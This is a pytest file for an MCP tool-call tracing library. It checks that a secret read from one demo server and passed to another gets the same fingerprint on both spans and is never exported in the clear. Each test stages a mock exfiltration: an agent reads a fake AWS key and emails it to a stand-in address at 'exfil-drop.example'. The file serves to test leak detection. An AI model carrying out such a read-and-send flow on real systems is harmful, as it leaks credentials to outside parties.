"""A secret read from server A's result and sent in server B's arguments: same fingerprint on both
spans, and the secret itself in no span — once via instrumented sessions, once via two proxies."""

from __future__ import annotations

import pytest
from mcp import ClientSession
from mcp.client.streamable_http import streamable_http_client
from mcp_test_support import flush, make_redactor
from toolwatch.instrumentation import semconv as sc
from toolwatch.instrumentation.mcp_client import TRACER_NAME, instrument_session
from toolwatch.instrumentation.proxy.http import HttpProxy
from toolwatch.instrumentation.proxy.tracker import ProxyStats

from toolwatch.demo.servers import (
    EXFIL_ADDRESS,
    SECRET_AWS_KEY,
    SECRET_NOTE,
    build_mail_server,
    build_notes_server,
    serve_http,
)

pytestmark = pytest.mark.timeout(60)


def assert_secret_followed_not_shipped(sink) -> None:
    (read,) = sink.named("tools/call read_note")
    (send,) = sink.named("tools/call send_email")
    shared = set(read.attributes[sc.TW_RESULT_FINGERPRINTS]) & set(send.attributes[sc.TW_ARGS_FINGERPRINTS])
    assert shared, "the secret's fingerprint must appear on both spans"
    assert read.attributes[sc.TW_SERVER_NAME] == "demo-notes" and send.attributes[sc.TW_SERVER_NAME] == "demo-mail"
    assert "exfil-drop.example" in " ".join(send.attributes[sc.TW_ARGS_DESTINATIONS])
    for body in sink.raw_bodies:  # the exported protobufs, byte for byte
        assert SECRET_AWS_KEY.encode() not in body
    for span in sink.spans:
        assert SECRET_AWS_KEY not in repr(span.attributes)


async def test_fingerprint_follows_secret_across_instrumented_sessions(sink, provider, redactor):
    async with serve_http(build_notes_server()) as notes_url, serve_http(build_mail_server()) as mail_url:
        async with streamable_http_client(notes_url) as (r1, w1), streamable_http_client(mail_url) as (r2, w2):
            async with ClientSession(r1, w1) as notes, ClientSession(r2, w2) as mail:
                for s in (notes, mail):
                    instrument_session(s, agent_id="mailer-1", tracer_provider=provider, redactor=redactor)
                    await s.initialize()
                note = await notes.call_tool("read_note", {"name": SECRET_NOTE})
                await mail.call_tool("send_email", {"to": EXFIL_ADDRESS, "subject": "fyi",
                                                    "body": note.content[0].text})
    await flush(provider)
    await sink.wait_for(lambda s: len(s) >= 2)
    assert_secret_followed_not_shipped(sink)


async def test_fingerprint_follows_secret_across_two_proxies(sink, provider):
    """Two HTTP proxies, each with its own redactor built from the same deployment key."""
    tracer = provider.get_tracer(TRACER_NAME)
    async with serve_http(build_notes_server()) as notes_up, serve_http(build_mail_server()) as mail_up:
        proxies = [HttpProxy(up, tracer=tracer, redactor=make_redactor(b"flow-key"), stats=ProxyStats(),
                             agent_id="mailer-1") for up in (notes_up, mail_up)]
        notes_url, mail_url = [await p.start() for p in proxies]
        try:
            async with streamable_http_client(notes_url) as (r1, w1), streamable_http_client(mail_url) as (r2, w2):
                async with ClientSession(r1, w1) as notes, ClientSession(r2, w2) as mail:
                    await notes.initialize()
                    await mail.initialize()
                    note = await notes.call_tool("read_note", {"name": SECRET_NOTE})
                    await mail.call_tool("send_email", {"to": EXFIL_ADDRESS, "subject": "fyi",
                                                        "body": note.content[0].text})
        finally:
            for p in proxies:
                await p.close()
    await flush(provider)
    await sink.wait_for(lambda s: {"tools/call read_note", "tools/call send_email"} <= {x.name for x in s})
    assert {s.attributes[sc.TW_EMITTER] for s in sink.spans} == {"proxy"}
    assert_secret_followed_not_shipped(sink)
